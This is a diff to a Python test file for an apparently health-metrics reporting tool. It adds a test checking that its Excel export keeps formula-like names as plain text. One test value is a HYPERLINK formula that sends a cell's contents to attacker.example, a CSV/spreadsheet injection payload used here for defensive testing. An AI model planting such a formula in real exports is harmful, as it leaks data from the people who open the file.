@@ -193,3 +193,32 @@ def test_names_with_markup_characters_print_as_written(metrics):
     text = pdf_text(pdf)
     for written in ("R&D <b>studies", "A&E <4 hours", "Safe & <i>sound", "Board <report> & more"):
         assert written in text, written
+
+
+def run_report(source: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
+    command = [str(Path(sys.executable).with_name("qijourney")), "report", str(source)]
+    command += ["--value", "value", "--date", "month", "--series", "metric"]
+    command += ["--domain-column", "domain", "--out", str(out), *extra]
+    return subprocess.run(command, capture_output=True, text=True, timeout=300)
+
+
+def test_cli_excel_keeps_text_as_text(metrics, tmp_path):
+    from tests.workbook import filled_cells, run_on_opening
+
+    names = {
+        "Metric 00": '=HYPERLINK("https://attacker.example/?d="&D5,"Click to verify")',
+        "Metric 01": "@SUM(1+1)",
+        "Metric 02": "#N/A in name",
+        "Metric 03": "Falls\x0bper day",
+    }
+    awkward = metrics.replace({"metric": names, "domain": {"Safe": "-Safe"}})
+    source = tmp_path / "ipr.csv"
+    awkward.to_csv(source, index=False)
+    out = tmp_path / "board.xlsx"
+    result = run_report(source, out, "--title", "=1+1 board")
+    assert result.returncode == 0, result.stderr
+    cells = filled_cells(out)
+    assert run_on_opening(cells) == []
+    text = {c.value for c in cells if c.data_type == "s"}
+    shown = {n.replace("\x0b", "\ufffd") for n in names.values()}
+    assert shown | {"-Safe", "=1+1 board"} <= text
